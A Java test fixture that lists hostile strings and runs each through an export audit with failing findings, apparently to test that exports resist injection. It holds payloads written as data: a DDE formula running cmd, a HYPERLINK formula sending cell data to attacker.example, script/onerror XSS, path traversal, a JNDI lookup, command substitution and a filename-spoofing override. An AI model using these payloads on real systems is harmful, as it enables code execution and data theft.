package tribune.export;

import java.text.Normalizer;
import java.util.List;
import java.util.stream.Stream;
import tribune.trail.Samples;
import tribune.trail.Trail;
import tribune.verdict.CheckId;
import tribune.verdict.Finding;
import tribune.verdict.Ground;
import tribune.verdict.Grounds;
import tribune.verdict.Paths;
import tribune.verdict.Severity;

/** Texts that have broken other people's exports; all of them may stand in a record. */
public final class HostileTexts {
  public static final List<String> ALL =
      Stream.of(
              "=cmd|' /C calc'!A0",
              "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"click\")",
              "+1+1",
              "-2+3",
              "@SUM(A1:A9)",
              "\t=1+1",
              "\r=1+1",
              "\n=1+1",
              "\uff1d1+1",
              "\uff0b1",
              "\uff0d1",
              "\uff20x",
              "'=1+1",
              "''",
              "a;=1+1",
              "\"quoted\", \"\"twice\"\"",
              "line one\nline two\r\nline three\rline four",
              ",;|\t\"",
              "\u0000\u0001\u0008\u000b\u001b[31mred\u007f\u0085\u009b",
              "\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f",
              "\u2028\u2029\u00a0\ufeff",
              "<script>alert(1)</script><img src=x onerror=alert(1)>",
              "]]>&amp;&#x3c;<!--x--><?php ?><![CDATA[",
              "| a | b |\n| --- | --- |\n# title\n- [ ] x\n![i](https://a.example/i.png)",
              "[x](javascript:alert(1)) `code` **bold** @everyone #1 ~~x~~ <https://a.example>",
              "\ud83d\ude00\ud83d\udc69\u200d\ud83d\udc67 \u00e9 e\u0301 \ufdfd \ud834\udd1e",
              "../../etc/passwd",
              "%s %n ${jndi:ldap://x} {{7*7}} $(id) `id`",
              "_x0041_ _x000D_",
              "   leading and trailing   ",
              "",
              " ",
              "x".repeat(8_000))
          .map(text -> Normalizer.normalize(text, Normalizer.Form.NFC))
          .toList();

  private HostileTexts() {}

  /** An audit of each text: its title, its department, and what its findings say. */
  static void audit(Trail trail) {
    for (int i = 0; i < ALL.size(); i++) {
      String text = ALL.get(i);
      trail.append(Samples.draft("H-" + i, 1, text, List.of(text), findings(text)));
    }
  }

  private static List<Finding> findings(String text) {
    return List.of(
        new Finding.Fail(
            new CheckId("LTR-01"),
            Severity.MAJOR,
            Grounds.of(List.of(new Ground("LTR-01 fails", text, List.of(), Paths.NONE)))),
        new Finding.NeedsEvidence(
            new CheckId("LTR-02"),
            Severity.MAJOR,
            Paths.of(List.of(text.isEmpty() ? "x" : text)),
            Grounds.NONE),
        new Finding.Fault(new CheckId("LTR-03"), Severity.MAJOR, text));
  }
}
